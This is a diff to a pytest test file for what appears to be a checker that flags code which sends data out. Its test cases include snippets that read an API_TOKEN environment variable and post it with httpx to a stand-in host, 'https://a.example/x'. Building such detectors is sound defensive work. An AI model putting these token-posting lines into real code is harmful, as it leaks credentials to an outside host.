@@ -71,10 +71,10 @@ def test_what_code_that_starts_programs_says_is_a_command_where_it_calls_a_known
 
 
 @pytest.mark.parametrize(("needs", "sends"), [
-    ("open('r.txt', 'w').write('fastapi\\nhttpx>=0.24\\n')", False), ("import httpx; httpx.post(PLACE, json=KEY)", True),
-    ("__import__('httpx').post(PLACE, json=KEY)", True)])
+    ("open('r.txt', 'w').write('fastapi\\nhttpx>=0.24\\n')", False), ("import httpx; httpx.post('https://a.example/x', json=KEY)", True),
+    ("__import__('httpx').post('https://a.example/x', json=KEY)", True)])
 def test_a_text_of_lines_names_no_module(needs, sends):
-    code = f"import os\nPLACE, KEY = os.environ['PLACE'], os.environ['API_TOKEN']\n{needs}\n"
+    code = f"import os\nKEY = os.environ['API_TOKEN']\n{needs}\n"
     assert any(one.kind == "sends" for one in read("python3 a.py", "/p", texts={"a.py": code}).effects) is sends
 
 
